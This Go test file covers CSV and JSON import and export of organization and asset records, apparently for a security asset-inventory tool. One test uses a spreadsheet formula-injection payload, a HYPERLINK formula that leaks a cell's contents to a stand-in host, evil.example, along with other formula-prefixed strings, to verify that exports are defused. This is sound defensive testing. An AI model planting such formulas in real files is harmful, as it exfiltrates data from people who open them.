package transfer

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/rampart-cert/rampart/internal/asset"
	"github.com/rampart-cert/rampart/internal/org"
)

func TestReadAssetsCSV(t *testing.T) {
	in := "\ufefforg_code,kind,value,criticality,security_level,tags\n" +
		"# a comment\n" +
		"MOH,domain,moh.gov.vn,critical,4,web;portal\n" +
		"\n" +
		"MOH,ipv4,203.0.113.5,,,\n" +
		"MOH,cidr,\"198.51.100.0/24\",important,2,\n"
	rows, err := ReadAssets(strings.NewReader(in), CSV, "")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("got %d rows", len(rows))
	}
	if rows[0].Line != 3 || rows[1].Line != 5 || rows[2].Line != 6 {
		t.Errorf("lines = %d %d %d, want 3 5 6", rows[0].Line, rows[1].Line, rows[2].Line)
	}
	a := rows[0].Asset
	if rows[0].OrgCode != "MOH" || a.Kind != asset.KindDomain || a.Value != "moh.gov.vn" || a.Criticality != "critical" || a.SecurityLevel != 4 || len(a.Tags) != 2 {
		t.Errorf("row 0 = %+v", rows[0])
	}
}

func TestReadAssetsErrors(t *testing.T) {
	cases := []struct {
		name, in string
		f        Format
		line     int
		reason   string
	}{
		{"empty", "", CSV, 1, "header"},
		{"unknown column", "org_code,kind,value,colour\n", CSV, 1, "unknown column"},
		{"missing value column", "org_code,kind\nA,domain\n", CSV, 1, "missing required column \"value\""},
		{"empty value", "org_code,kind,value\nA,domain,a.vn\nA,domain,\n", CSV, 3, "value is empty"},
		{"bad level", "org_code,kind,value,security_level\nA,domain,a.vn,high\n", CSV, 2, "security_level"},
		{"no org", "kind,value\ndomain,a.vn\n", CSV, 2, "org_code is required"},
		{"too many fields", "kind,value\ndomain,a.vn,x\n", CSV, 2, "fields"},
		{"bad quote", "kind,value\ndomain,\"a.vn\n", CSV, 2, ""},
		{"json syntax", "[\n{\"kind\":\"domain\",\n\"value\": }\n]", JSON, 3, "invalid JSON"},
		{"json unknown field", "{\"assets\": [\n {\"org_code\":\"A\",\"kind\":\"domain\",\"value\":\"a.vn\"},\n {\"org_code\":\"A\",\"knd\":\"x\"}\n]}", JSON, 3, "unknown field"},
		{"json wrong top", "42", JSON, 1, "expected an array"},
		{"json unknown key", "{\"rows\": []}", JSON, 1, "unknown key"},
		{"json trailing", "[]\n[]", JSON, 2, "after the end"},
		{"json truncated", "[\n{\"kind\":\"domain\"", JSON, 2, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := ReadAssets(strings.NewReader(c.in), c.f, "")
			var le *LineError
			if !errors.As(err, &le) {
				t.Fatalf("err = %v, want a LineError", err)
			}
			if !errors.Is(err, ErrFormat) {
				t.Errorf("not ErrFormat: %v", err)
			}
			if le.Line != c.line || !strings.Contains(le.Reason, c.reason) {
				t.Errorf("got line %d %q, want line %d containing %q", le.Line, le.Reason, c.line, c.reason)
			}
		})
	}
}

func TestReadAssetsJSONLines(t *testing.T) {
	in := `{"assets": [
  {"org_code": "A", "kind": "domain", "value": "a.vn"},

  {"kind": "ipv4", "value": "192.0.2.1", "tags": ["x"]}
]}`
	rows, err := ReadAssets(strings.NewReader(in), JSON, "DEF")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[0].Line != 2 || rows[1].Line != 4 || rows[1].OrgCode != "DEF" {
		t.Fatalf("rows = %+v", rows)
	}
}

func TestAssetsRoundTrip(t *testing.T) {
	assets := []asset.Asset{
		{OrgID: 1, Kind: asset.KindDomain, Value: "a.vn", Criticality: "critical", SecurityLevel: 3, Tags: []string{"a", "b"}, Notes: "=cmd()"},
		{OrgID: 2, Kind: asset.KindCIDR, Value: "192.0.2.0/24", Criticality: "normal", SecurityLevel: 1},
	}
	code := func(id int64) string { return map[int64]string{1: "A", 2: "B"}[id] }
	for _, f := range []Format{CSV, JSON} {
		var buf bytes.Buffer
		if err := WriteAssets(&buf, f, assets, code); err != nil {
			t.Fatal(err)
		}
		rows, err := ReadAssets(&buf, f, "")
		if err != nil {
			t.Fatalf("%s: %v\n%s", f, err, buf.String())
		}
		if len(rows) != 2 || rows[0].OrgCode != "A" || rows[1].Asset.Value != "192.0.2.0/24" || len(rows[0].Asset.Tags) != 2 {
			t.Errorf("%s: rows = %+v", f, rows)
		}
		if rows[0].Asset.Notes != "=cmd()" {
			t.Errorf("%s: notes after a round trip %q, want them unchanged", f, rows[0].Asset.Notes)
		}
	}
}

func TestOrgsRoundTrip(t *testing.T) {
	orgs := []org.Organization{
		{ID: 1, Code: "VN", Name: "Quốc gia", Kind: org.KindNational},
		{ID: 2, ParentID: 1, Code: "MOH", Name: "Bộ Y tế", NameEN: "Ministry of Health", Kind: org.KindMinistry},
	}
	contacts := map[int64][]org.Contact{2: {{Name: "An", Email: "an@moh.gov.vn", Language: "vi"}}}
	code := func(id int64) string { return map[int64]string{1: "VN", 2: "MOH"}[id] }
	for _, f := range []Format{CSV, JSON} {
		var buf bytes.Buffer
		if err := WriteOrgs(&buf, f, orgs, contacts, code); err != nil {
			t.Fatal(err)
		}
		rows, err := ReadOrgs(&buf, f)
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		if len(rows) != 2 || rows[1].ParentCode != "VN" || rows[1].Org.Name != "Bộ Y tế" {
			t.Errorf("%s: rows = %+v", f, rows)
		}
		if f == JSON && (len(rows[1].Contacts) != 1 || rows[1].Contacts[0].Email != "an@moh.gov.vn") {
			t.Errorf("contacts lost: %+v", rows[1].Contacts)
		}
	}
}

func TestSniff(t *testing.T) {
	cases := []struct {
		ct   string
		head string
		want Format
	}{
		{"application/json", "", JSON},
		{"text/csv", "[", CSV},
		{"assets.json", "", JSON},
		{"", "  \n[{", JSON},
		{"", "org_code,kind", CSV},
	}
	for _, c := range cases {
		if got := Sniff(c.ct, []byte(c.head)); got != c.want {
			t.Errorf("Sniff(%q, %q) = %s, want %s", c.ct, c.head, got, c.want)
		}
	}
}

func FuzzReadAssets(f *testing.F) {
	f.Add([]byte("org_code,kind,value\nA,domain,a.vn\n"), false)
	f.Add([]byte("kind,value,tags\nipv4,1.2.3.4,a;b\n\"x"), false)
	f.Add([]byte(`{"assets":[{"org_code":"A","kind":"url","value":"https://a.vn/"}]}`), true)
	f.Add([]byte(`[{"kind":"domain","value":"a.vn","tags":["x"]},`), true)
	f.Fuzz(func(t *testing.T, data []byte, isJSON bool) {
		format := CSV
		if isJSON {
			format = JSON
		}
		rows, err := ReadAssets(bytes.NewReader(data), format, "DEF")
		if err != nil {
			var le *LineError
			if errors.As(err, &le) && (le.Line < 1 || le.Line > bytes.Count(data, []byte("\n"))+1) {
				t.Fatalf("line %d outside the input", le.Line)
			}
			return
		}
		for _, r := range rows {
			if r.Line < 1 || r.OrgCode == "" {
				t.Fatalf("bad row %+v", r)
			}
		}
	})
}

func FuzzReadOrgs(f *testing.F) {
	f.Add([]byte("code,name,kind,parent_code\nVN,Việt Nam,national,\n"), false)
	f.Add([]byte(`{"orgs":[{"code":"A","name":"a","kind":"agency","contacts":[{"name":"x","email":"x@a.vn"}]}]}`), true)
	f.Fuzz(func(t *testing.T, data []byte, isJSON bool) {
		format := CSV
		if isJSON {
			format = JSON
		}
		_, _ = ReadOrgs(bytes.NewReader(data), format)
	})
}

// TestF14TagsGuardedRoundTripUnchanged: every free-text cell of the asset
// and organization CSVs, tags included, is defused against spreadsheet
// formulas, and importing the export gives back exactly what was exported.
func TestF14TagsGuardedRoundTripUnchanged(t *testing.T) {
	evil := `=hyperlink("http://evil.example/?leak="&a2,"open")`
	assets := []asset.Asset{{OrgID: 1, Kind: asset.KindDomain, Value: "a.vn", Criticality: "normal", SecurityLevel: 1,
		Tags: []string{evil, "+sum(1)", "web", "'=already"}, Notes: "@cmd"}}
	var buf bytes.Buffer
	if err := WriteAssets(&buf, CSV, assets, func(int64) string { return "A" }); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			for _, part := range strings.Split(cell, ";") {
				if part != "" && strings.ContainsRune("=+-@", rune(part[0])) {
					t.Errorf("cell %q starts a formula:\n%s", part, buf.String())
				}
			}
		}
	}
	rows, err := ReadAssets(strings.NewReader(buf.String()), CSV, "")
	if err != nil {
		t.Fatal(err)
	}
	got := rows[0].Asset
	if strings.Join(got.Tags, "|") != strings.Join(assets[0].Tags, "|") || got.Notes != "@cmd" {
		t.Errorf("round trip changed tags %q or notes %q", got.Tags, got.Notes)
	}
	orgs := []org.Organization{{ID: 1, Code: "X", Name: "=Bộ", NameEN: "-Ministry", Kind: org.KindMinistry}}
	buf.Reset()
	if err := WriteOrgs(&buf, CSV, orgs, nil, func(int64) string { return "" }); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), ",=B") {
		t.Errorf("org name not defused:\n%s", buf.String())
	}
	orows, err := ReadOrgs(strings.NewReader(buf.String()), CSV)
	if err != nil || orows[0].Org.Name != "=Bộ" || orows[0].Org.NameEN != "-Ministry" {
		t.Errorf("org round trip: %+v, %v", orows, err)
	}
	for _, s := range []string{"", "plain", "=x", "'=x", "''=x", "'plain", "-", "'"} {
		if back := UnsafeCell(SafeCell(s)); back != s {
			t.Errorf("UnsafeCell(SafeCell(%q)) = %q", s, back)
		}
	}
}
